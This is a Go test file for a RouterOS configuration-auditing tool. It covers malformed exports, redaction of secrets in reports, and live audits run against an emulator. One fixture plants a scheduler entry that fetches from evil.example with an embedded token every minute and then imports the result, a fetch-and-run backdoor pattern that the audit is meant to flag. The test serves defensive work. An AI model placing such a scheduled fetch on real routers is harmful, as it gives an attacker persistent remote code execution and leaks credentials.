package app_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"maps"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"jembatan/internal/app"
	"jembatan/internal/config"
	"jembatan/internal/emulate"
	"jembatan/internal/report"
	"jembatan/routeros/emulator"
	"jembatan/routeros/proto"
	"jembatan/tunnel"
	"jembatan/tunnel/audit"
)

// day is when the audits of these tests are made.
var day = time.Date(2026, 1, 15, 12, 0, 0, 0, time.UTC)

// audited runs an audit with a password in the environment.
func audited(t *testing.T, opts app.AuditOptions) *audit.Report {
	t.Helper()
	opts.Now, opts.Tool = day, "test"
	r, err := app.Audit(t.Context(), opts, app.Options{Settings: config.Defaults(), Log: zerolog.Nop(), Env: func(name string) (string, bool) {
		return "p4ssw0rd-of-the-fleet", name == "AUDIT_PASSWORD"
	}})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// write makes files in a folder; the names are paths below it.
func write(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// exportOf is an export of one end of a tunnel.
func exportOf(name, serial, date, local, remote string, id int) string {
	return fmt.Sprintf(`# %s 08:00:00 by RouterOS 7.20.4
# software id = %s
#
# model = RB5009UG
# serial number = %s
/interface bridge
add name=br1
/interface eoip
add comment=x keepalive=1s,3 local-address=%s mac-address=02:00:00:00:00:%02X mtu=1458 name=eoip-%s remote-address=%s tunnel-id=%d
/interface bridge port
add bridge=br1 interface=ether2
add bridge=br1 interface=eoip-%s
/ip address
add address=%s/24 interface=ether1
/system identity
set name=%s
`, date, "AB12-"+serial[len(serial)-4:], serial, local, len(name)+int(name[0]), name, remote, id, name, local, name)
}

// TestBadFiles is what folders of exports hold in practice: each bad file is
// one clear line, and the good ones are audited.
func TestBadFiles(t *testing.T) {
	good := exportOf("jkt", "HF10000001", "2026-01-10", "198.51.100.1", "198.51.100.2", 7)
	peer := exportOf("sby", "HF10000002", "2026-01-10", "198.51.100.2", "198.51.100.1", 7)
	var utf16 bytes.Buffer
	utf16.Write([]byte{0xFF, 0xFE})
	for _, r := range exportOf("mlg", "HF10000003", "2026-01-10", "198.51.100.3", "198.51.100.9", 9) {
		utf16.Write([]byte{byte(r), byte(r >> 8)})
	}
	dir := write(t, map[string]string{
		"jkt.rsc":        good,
		"old/jkt.rsc":    strings.Replace(good, "2026-01-10", "2025-01-10", 1),
		"copy of jkt":    good,
		"sby.rsc":        strings.ReplaceAll(peer, "\n", "\r\n"),
		"mlg.txt":        utf16.String(),
		"bdg.rsc":        strings.Replace(exportOf("bdg", "HF10000004", "2026-01-10", "198.51.100.4", "198.51.100.9", 8), "comment=x", "comment=\"\xCF\xF0\xE8\"", 1),
		"cut.rsc":        exportOf("cut", "HF10000005", "2026-01-10", "198.51.100.5", "198.51.100.9", 6) + "/ip dns\nset servers=\\",
		"twin.rsc":       exportOf("jkt", "HF10000006", "2026-01-10", "198.51.100.6", "198.51.100.9", 5),
		"binary.bin":     "\x7fELF\x00\x00\x01\x02",
		"empty.rsc":      " \n",
		"switch.cfg":     "!\nversion 15.1\nhostname core\ninterface GigabitEthernet0/1\n ip address 10.0.0.1 255.255.255.0\n",
		"config.json":    "{\"system\": {\"host-name\": \"x\"}}",
		".hidden/x.rsc":  good,
		"header.rsc":     "# 2026-01-10 08:00:00 by RouterOS 7.20.4\n# model = X\n",
		"secretline.rsc": exportOf("ktr", "HF10000007", "2026-01-10", "198.51.100.7", "198.51.100.9", 4) + "/ppp secret\nadd name=a password=\"s3cr3t-cut\n    s3cr3t-rest\" profile=x\n",
	})
	if err := os.Truncate(filepath.Join(dir, "empty.rsc"), 2); err != nil {
		t.Fatal(err)
	}
	huge, err := os.Create(filepath.Join(dir, "huge.rsc"))
	if err != nil {
		t.Fatal(err)
	}
	if err := huge.Truncate(100 << 20); err != nil { // Sparse: it takes no room.
		t.Fatal(err)
	}
	huge.Close()
	r := audited(t, app.AuditOptions{Exports: []string{dir, filepath.Join(dir, "missing"), write(t, nil)}})

	lines := func() string {
		var b strings.Builder
		for _, x := range r.Routers {
			fmt.Fprintf(&b, "router %s %s\n", x.Name, rel(dir, x.Source.Where))
		}
		for _, u := range r.Unread {
			fmt.Fprintf(&b, "unread %s:%d %s\n", rel(dir, u.Where), u.Line, u.Reason)
		}
		for _, d := range r.Doubts {
			fmt.Fprintf(&b, "%s %s:%d %s\n", d.Kind, rel(dir, d.File), d.Line, strings.ReplaceAll(d.Say.EN, dir+"/", ""))
		}
		for _, x := range r.Tunnels {
			fmt.Fprintf(&b, "tunnel %s %s\n", x.Subject, x.State)
		}
		return b.String()
	}()
	for _, want := range []string{
		"router jkt copy of jkt", "router sby sby.rsc", "router mlg mlg.txt", "router bdg bdg.rsc", "router cut cut.rsc", "router jkt#2 twin.rsc", "router ktr secretline.rsc",
		"twice jkt.rsc:0 the same export as copy of jkt", "older old/jkt.rsc:0 an older export",
		"encoding mlg.txt:1 read as UTF-16", "encoding bdg.rsc:1 read as Windows-1251",
		"damaged cut.rsc:18 the text ends in the middle", "damaged secretline.rsc:18 a text in quotes",
		"identity twin.rsc:0 two routers call themselves jkt",
		"unread binary.bin:1 not a RouterOS export: binary", "unread empty.rsc:0 empty", "unread switch.cfg:1 not a RouterOS export",
		"unread config.json:1 not a RouterOS export", "unread header.rsc:1 an export without any command", "unread huge.rsc:0 100 MiB, larger than the 32 MiB",
		"unread missing:0 no such file", "the folder has no files",
		"tunnel jkt/eoip-jkt - sby/eoip-sby paired", "tunnel mlg/eoip-mlg foreign",
	} {
		if !strings.Contains(lines, want) {
			t.Errorf("no line %q in\n%s", want, lines)
		}
	}
	if strings.Contains(lines, "hidden") {
		t.Errorf("a hidden folder was read:\n%s", lines)
	}
	for _, form := range report.Forms() {
		var b bytes.Buffer
		if err := report.Write(&b, r, form, report.Options{}); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), "s3cr3t") {
			t.Errorf("%s shows a part of a secret", form)
		}
		for _, u := range r.Unread {
			if !strings.Contains(b.String(), filepath.Base(u.Where)) {
				t.Errorf("%s does not speak of %s", form, u.Where)
			}
		}
	}
}

func rel(dir, path string) string {
	out, err := filepath.Rel(dir, path)
	if err != nil || strings.HasPrefix(out, "..") {
		return path
	}
	return out
}

// planted are secrets of every kind that exports show.
var planted = []string{
	"PLANTED-ipsec-9Xq2", "PLANTED-vrrp-77", "PLANTED-ppp-1a", "PLANTED-snmp-public-1", "PLANTED-identity-5", "PLANTED-wifi-3", "PLANTED-url-token-8", "PLANTED-mail-2",
}

// TestSecretsAreInNoForm plants secrets in an export, with rules that look at
// them, and looks for them in every form of the report.
func TestSecretsAreInNoForm(t *testing.T) {
	text := exportOf("jkt", "HF10000001", "2026-01-10", "198.51.100.1", "198.51.100.2", 7) + `/interface eoip
add allow-fast-path=no ipsec-secret=PLANTED-ipsec-9Xq2 name=e2 remote-address=198.51.100.3 tunnel-id=8
add allow-fast-path=no ipsec-secret=PLANTED-ipsec-9Xq2 name=PLANTED-ipsec-9Xq2x remote-address=198.51.100.4 tunnel-id=9
/interface vrrp
add authentication=simple interface=br1 name=vrrp1 password=PLANTED-vrrp-77 version=2
/interface wireless security-profiles
set [ find default=yes ] wpa2-pre-shared-key=PLANTED-wifi-3
/ppp secret
add name=branch password=PLANTED-ppp-1a
/ip ipsec identity
add peer=p secret=PLANTED-identity-5
/snmp
set enabled=yes
/snmp community
set [ find default=yes ] name=PLANTED-snmp-public-1
/tool e-mail
set password=PLANTED-mail-2
/system scheduler
add interval=1m name=x on-event="/tool fetch url=\"https://u:PLANTED-url-token-8@evil.example/p\?t=PLANTED-url-token-8\"; /import x"
`
	text = strings.ReplaceAll(text, "name=PLANTED-ipsec-9Xq2x", "name=e3")
	r := audited(t, app.AuditOptions{Exports: []string{write(t, map[string]string{"jkt.rsc": text})}})
	rules := map[string]bool{}
	for _, f := range r.Findings {
		rules[f.Rule] = true
	}
	for _, id := range []string{"CRY-05", "MGMT-07", "COMP-01", "HA-05"} {
		if !rules[id] {
			t.Errorf("%s found nothing, so the test says little", id)
		}
	}
	for _, form := range report.Forms() {
		for _, lang := range []audit.Lang{audit.English, audit.Indonesian} {
			var b bytes.Buffer
			if err := report.Write(&b, r, form, report.Options{Lang: lang}); err != nil {
				t.Fatal(err)
			}
			for _, secret := range planted {
				if strings.Contains(b.String(), secret) {
					t.Errorf("%s shows %s", form, secret)
				}
			}
			if form != report.JSON && !strings.Contains(b.String(), "evil.example") {
				t.Errorf("%s does not name the host", form)
			}
		}
	}
}

// TestLiveAuditAsksOnce counts the requests of a live audit on the wire: at
// most one a menu, and prints only.
func TestLiveAuditAsksOnce(t *testing.T) {
	world := emulator.NewWorld()
	defer world.Close()
	devices := []emulator.Config{{
		Name: "jkt", Version: "7.20", Users: []emulator.User{{Name: "audit", Password: "p4ssw0rd-of-the-fleet"}},
	}}
	server, err := emulate.Serve(world, devices, emulate.ServeOptions{Listen: netip.MustParseAddr("127.0.0.1")})
	if err != nil {
		t.Fatal(err)
	}
	defer server.Close()
	tap := newTap(t, server.Lines()[0].API)
	r := audited(t, app.AuditOptions{
		Routers: []string{tap.addr()},
		Login:   app.Login{User: "audit", Password: tunnel.SecretRef{Env: "AUDIT_PASSWORD"}, TLS: tunnel.TLS{Off: true}},
	})
	if len(r.Unread) > 0 || len(r.Routers) != 1 {
		t.Fatalf("%+v", r.Unread)
	}
	menus := 0
	for path, n := range tap.seen() {
		menu, reads := strings.CutSuffix(path, "/print")
		if path == "/login" {
			continue
		}
		if !reads {
			t.Errorf("the audit sent %s", path)
		}
		if n > 1 {
			t.Errorf("%d requests for %s", n, menu)
		}
		menus++
	}
	if want := len(audit.Reads()); menus != want {
		t.Errorf("%d menus were asked for, want %d", menus, want)
	}
}

// A tap passes a connection on and counts the first words of what the client
// says.
type tap struct {
	l  net.Listener
	mu sync.Mutex // Guards counts.

	counts map[string]int
}

func newTap(t *testing.T, to string) *tap {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	x := &tap{l: l, counts: map[string]int{}}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			client, err := l.Accept()
			if err != nil {
				return
			}
			device, err := net.Dial("tcp", to)
			if err != nil {
				client.Close()
				return
			}
			copied, told := io.Pipe()
			go x.count(copied)
			go func() {
				_, _ = io.Copy(device, io.TeeReader(client, told))
				told.Close()
				device.Close()
			}()
			go func() {
				_, _ = io.Copy(client, device)
				client.Close()
			}()
		}
	}()
	return x
}

func (x *tap) addr() string { return x.l.Addr().String() }

func (x *tap) count(r io.Reader) {
	sentences := proto.NewReader(r, proto.Limits{})
	var s proto.Sentence
	for sentences.Read(&s) == nil {
		x.mu.Lock()
		x.counts[string(s.Word(0))]++
		x.mu.Unlock()
	}
	_, _ = io.Copy(io.Discard, r)
}

func (x *tap) seen() map[string]int {
	x.mu.Lock()
	defer x.mu.Unlock()
	return maps.Clone(x.counts)
}

// TestUnreachableRoutersAreReported asks a port where nobody listens.
func TestUnreachableRoutersAreReported(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	r := audited(t, app.AuditOptions{
		Routers: []string{addr},
		Login:   app.Login{User: "audit", Password: tunnel.SecretRef{Env: "AUDIT_PASSWORD"}, TLS: tunnel.TLS{Off: true}},
	})
	if len(r.Unread) != 1 || r.Unread[0].Where != addr || !strings.Contains(r.Unread[0].Reason, "refused") {
		t.Errorf("unread: %+v", r.Unread)
	}
	if len(r.Findings) != 1 || r.Findings[0].Rule != "COV-01" || r.Findings[0].Severity != audit.High {
		t.Errorf("findings: %+v", r.Findings)
	}
}

// TestExportAgainstLive compares a saved export with the router that it is of.
func TestExportAgainstLive(t *testing.T) {
	world := emulator.NewWorld()
	defer world.Close()
	devices := []emulator.Config{{Name: "jkt", Users: []emulator.User{{Name: "audit", Password: "p4ssw0rd-of-the-fleet"}}, Addresses: []emulator.Address{{Address: "198.51.100.1/24", Interface: "ether1"}}}}
	server, err := emulate.Serve(world, devices, emulate.ServeOptions{Listen: netip.MustParseAddr("127.0.0.1")})
	if err != nil {
		t.Fatal(err)
	}
	defer server.Close()
	text := exportOf("jkt", "HF10000001", "2026-01-10", "198.51.100.1", "198.51.100.2", 7)
	r := audited(t, app.AuditOptions{
		Routers: []string{server.Lines()[0].API}, Exports: []string{write(t, map[string]string{"backup.rsc": text})},
		Login: app.Login{User: "audit", Password: tunnel.SecretRef{Env: "AUDIT_PASSWORD"}, TLS: tunnel.TLS{Off: true}},
	})
	if len(r.Routers) != 1 || r.Routers[0].Source.Kind != audit.Live {
		t.Errorf("routers: %+v", r.Routers)
	}
	for _, f := range r.Findings {
		if f.Rule == "COV-05" && f.Subject == "jkt" {
			return
		}
	}
	t.Errorf("no finding that the export differs: %+v", r.Doubts)
}

// TestCancelledAudit stops when its context does.
func TestCancelledAudit(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := app.Audit(ctx, app.AuditOptions{Exports: []string{t.TempDir()}, Now: day}, app.Options{Settings: config.Defaults(), Log: zerolog.Nop()})
	if err == nil {
		t.Error("no error")
	}
}
